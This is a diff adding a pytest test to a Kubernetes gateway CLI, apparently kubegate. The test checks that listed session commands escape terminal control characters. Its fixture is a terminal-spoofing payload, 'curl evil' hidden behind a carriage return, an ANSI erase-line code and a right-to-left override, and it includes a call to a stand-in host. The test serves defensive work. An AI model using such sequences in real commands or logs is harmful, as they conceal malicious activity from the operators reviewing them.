@@ -423,3 +423,25 @@ def test_sessions_list_of_an_empty_database(config, capsys):
 
     assert main(["sessions", "list", "--config", str(config), "-o", "json"]) == 0
     assert json.loads(capsys.readouterr().out) == []
+
+
+def test_a_sessions_command_line_cannot_drive_the_terminal_it_is_listed_on(tmp_path, capsys):
+    # The exec argv is the caller's (any bytes but NUL): a CR and "erase line" redrew the listed command.
+    import yaml
+
+    from kubegate.core.cli import main
+
+    config = tmp_path / "kubegate.yaml"
+    config.write_text(yaml.safe_dump({"database": {"url": f"sqlite:///{tmp_path / 'gw.db'}"},
+                                      "connections": {"prod": {"upstream": {}}}}))  # fmt: skip
+    db = Database(f"sqlite:///{tmp_path / 'gw.db'}")
+    db.create_tables()
+    storage = DatabaseStorage(db)
+    record = new_record(storage)
+    record.command = ["sh", "-c", "curl evil; : '\r\x1b[2Kdate'", "\u202e"]
+    db.call(lambda s: store.add(s, record))
+    db.close()
+    assert main(["sessions", "list", "--config", str(config)]) == 0
+    out = capsys.readouterr().out
+    assert not any(c in out for c in "\r\x1b\u202e"), out
+    assert "sh -c 'curl evil; : '\"'\"'\\x0d\\x1b[2Kdate'\"'\"'' '\\u202e'" in out
